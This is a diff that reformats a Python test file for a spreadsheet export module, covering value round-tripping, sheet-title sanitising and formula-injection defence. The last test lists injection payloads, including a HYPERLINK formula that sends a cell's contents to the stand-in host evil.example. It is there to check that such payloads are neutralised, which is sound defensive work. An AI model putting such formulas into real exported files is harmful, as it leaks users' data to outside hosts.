@@ -18,8 +18,10 @@ def read(data: bytes) -> tuple[str, list[tuple]]:
 
 
 def test_values_round_trip():
-    rows = [["<b>&amp; \"quoted\" 'single'", 3, 2.5, True, None, "محمد Ольга 李"],
-            ["  spaces kept  ", 0, -1.25, False, "", "line\nbreak"]]
+    rows = [
+        ["<b>&amp; \"quoted\" 'single'", 3, 2.5, True, None, "محمد Ольга 李"],
+        ["  spaces kept  ", 0, -1.25, False, "", "line\nbreak"],
+    ]
     title, read_rows = read(workbook_bytes("Records", ["a", "b", "c", "d", "e", "f"], rows))
     assert title == "Records"
     assert read_rows[0] == ("a", "b", "c", "d", "e", "f")
@@ -33,8 +35,7 @@ def test_characters_xml_cannot_carry_are_dropped():
 
 
 def test_sheet_title_is_made_valid():
-    title, _ = read(workbook_bytes('Roster: "A/B" [2026]? with a very long name indeed', ["h"],
-                                   []))
+    title, _ = read(workbook_bytes('Roster: "A/B" [2026]? with a very long name indeed', ["h"], []))
     assert len(title) <= 31 and not set(title) & set(":\\/?*[]")
 
 
@@ -45,7 +46,14 @@ def test_empty_export_has_the_header_only():
 
 
 def test_formula_triggers_are_neutralised_in_the_workbook():
-    payloads = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-                '=HYPERLINK("http://evil.example/?x="&A1,"click")']
+    payloads = [
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    ]
     _, rows = read(xlsx_bytes("Records", ["value"], [[p] for p in payloads]))
     assert [row[0] for row in rows[1:]] == ["'" + p for p in payloads]
